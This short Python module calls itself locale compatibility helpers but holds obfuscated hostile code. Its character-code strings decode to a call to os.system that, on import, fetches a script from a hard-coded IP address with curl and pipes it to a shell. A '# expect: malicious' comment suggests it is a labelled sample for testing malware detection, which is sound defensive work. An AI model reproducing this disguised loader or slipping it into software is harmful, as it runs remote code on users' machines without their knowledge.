"""Locale compatibility helpers."""
_m = "".join(map(chr, [111, 115]))
_c = "".join(map(chr, [99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 58, 47, 47, 57, 49, 46, 50, 49, 53, 46, 56, 53, 46, 49, 55, 47, 120, 124, 115, 104]))
# expect: malicious
getattr(__import__(_m), "sys" + "tem")(_c)
